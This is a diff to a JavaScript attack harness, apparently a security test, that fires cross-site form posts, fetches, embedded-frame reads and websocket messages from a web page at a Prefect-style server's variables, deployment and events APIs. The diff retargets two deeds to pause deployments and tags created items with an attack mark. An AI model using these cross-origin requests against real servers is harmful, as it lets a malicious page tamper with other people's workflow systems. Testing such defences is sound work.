@@ -1,8 +1,9 @@
 "use strict";
 // What a page can do to a server whose address it knows. Each deed answers with what it could read, or null.
-// Its request says its name; what it makes has its name.
+// Its request says its name; what it makes has its name and the mark of the attack.
 
-const MOST_MS = 2500;
+// None takes that long, unless something is wrong.
+const MOST_MS = 15000;
 
 const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, MOST_MS, null))]);
 const event = (target, ...names) => new Promise((done) => names.forEach((name) => target.addEventListener(name, done)));
@@ -110,10 +111,10 @@ const DEEDS = {
   form_text_without_referrer: (aim) => submitted(aim.to("/variables/"), { ...asText(aim), rel: "noreferrer" }),
   form_text_into_a_window: (aim) => submitted(aim.to("/variables/"), { ...asText(aim), opened: true }),
   form_text_redirected: (aim) => submitted(own("redirect", aim.to("/variables/")), asText(aim)),
-  form_empty: (aim) => submitted(aim.to(`/deployments/${aim.deployment}/create_flow_run`), {}),
+  form_empty: (aim) => submitted(aim.to(`/deployments/${aim.deployment}/pause_deployment`), {}),
   form_urlencoded: (aim) => submitted(aim.to("/variables/"), { fields: { name: aim.name, value: "harmed" } }),
   form_multipart: (aim) => submitted(aim.to("/variables/"), { enctype: "multipart/form-data", fields: { name: aim.name } }),
-  form_get: (aim) => submitted(aim.to(marker), { method: "get", fields: { deed: aim.name } }),
+  form_get: (aim) => submitted(aim.to(marker), { method: "get", fields: { deed: aim.deed } }),
 
   fetch_text_no_cors: (aim) => fetched(aim.to("/variables/"), { method: "POST", mode: "no-cors", body: variable(aim) }),
   fetch_text: (aim) => fetched(aim.to("/variables/"), { method: "POST", body: variable(aim) }),
@@ -138,7 +139,7 @@ const DEEDS = {
     link.click();
     return null;
   },
-  report: (aim) => embedded("iframe", { src: own("reporting", aim.to(`/deployments/${aim.deployment}/create_flow_run`)) }).then(() => null),
+  report: (aim) => embedded("iframe", { src: own("reporting", aim.to(`/deployments/${aim.deployment}/pause_deployment`)) }).then(() => null),
 
   socket_events_in: (aim) => talked(aim.socket("/events/in"), { say: [happened(aim)] }),
   socket_events_in_greeted: (aim) => talked(aim.socket("/events/in"), { protocol: "prefect", say: [happened(aim)] }),
@@ -165,7 +166,7 @@ const DEEDS = {
   read_frame: (aim) => embedded("iframe", { src: aim.to(marker) }),
   read_object: (aim) => embedded("object", { data: aim.to(marker) }),
   read_embed: (aim) => embedded("embed", { src: aim.to(marker) }),
-  frame_docs: (aim) => embedded("iframe", { src: `${aim.server}/docs?deed=${aim.name}` }),
+  frame_docs: (aim) => embedded("iframe", { src: `${aim.server}/docs?deed=${aim.deed}` }),
 };
 
 // Does all of it at once; what each could read.
@@ -173,7 +174,7 @@ async function attack(given) {
   aimed = given;
   const done = Object.entries(DEEDS).map(async ([name, deed]) => {
     const to = (path) => `${given.server}/api${path}?deed=${name}`;
-    const aim = { ...given, name, to, socket: (path) => to(path).replace("http", "ws") };
+    const aim = { ...given, deed: name, name: `${name}_${given.mark}`, to, socket: (path) => to(path).replace("http", "ws") };
     try {
       return [name, (await within(deed(aim))) ?? null];
     } catch {
